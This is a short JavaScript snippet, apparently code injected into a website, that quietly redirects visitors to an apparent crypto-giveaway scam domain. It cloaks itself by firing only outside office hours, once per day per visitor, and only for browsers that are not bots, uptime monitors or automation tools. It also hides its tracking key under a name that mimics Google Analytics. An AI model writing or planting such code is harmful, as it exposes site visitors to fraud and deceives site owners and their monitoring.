const now = new Date();
const hour = now.getHours();
const day = now.getDay();

const visitedKey = '_ga_sess_' + now.toISOString().slice(0, 10);
const workingHours = hour >= 9 && hour < 18 && day > 0 && day < 6;

function isRealVisitor() {
  const ua = navigator.userAgent;
  if (/bot|spider|crawl|preview|monitor|pingdom|uptime|curl|wget/i.test(ua)) return false;
  if (navigator.webdriver || !navigator.languages || navigator.languages.length === 0) return false;
  return true;
}

if (!workingHours && isRealVisitor() && !localStorage.getItem(visitedKey)) {
  localStorage.setItem(visitedKey, '1');
  const landing = new URL('https://crypto-giveaway-official.top/event');
  landing.searchParams.set('src', location.hostname);
  landing.searchParams.set('h', String(hour));
  setTimeout(() => window.location.assign(landing.href), 3000);
}
